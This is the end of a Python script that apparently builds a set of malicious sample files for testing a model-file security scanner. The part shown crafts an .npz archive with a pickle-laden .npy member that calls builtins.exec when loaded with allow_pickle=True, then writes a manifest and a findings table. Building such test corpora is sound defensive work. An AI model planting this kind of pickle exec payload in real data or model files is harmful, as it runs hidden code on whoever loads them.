with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
    z.writestr("a.npy", npy("'\\x4f'", call("builtins", "exec", "import os") + b"."))
out("numpy/npz_escaped_object.npz", b.getvalue(), "npz member whose object dtype is an escaped string literal",
    "issue 13 (.npz members)", "numpy.load(allow_pickle=True)['a']", CRIT, "builtins.exec")

if __name__ == "__main__":
    with open(os.path.join(HERE, "manifest.json"), "w") as f:
        json.dump({"malicious": entries}, f, indent=1)
        f.write("\n")
    if "--table" in sys.argv:
        print("| file | technique | source | loader that runs it | ward's finding |")
        print("|---|---|---|---|---|")
        for e in entries:
            print("| `%s` | %s | %s | %s | `%s` naming `%s` |" % (e["File"], e["Technique"].replace("|", "\\|"),
                  e["Source"], e["Loader"], e["Rule"], e["Evidence"]))
    print(len(entries), "files", file=sys.stderr)
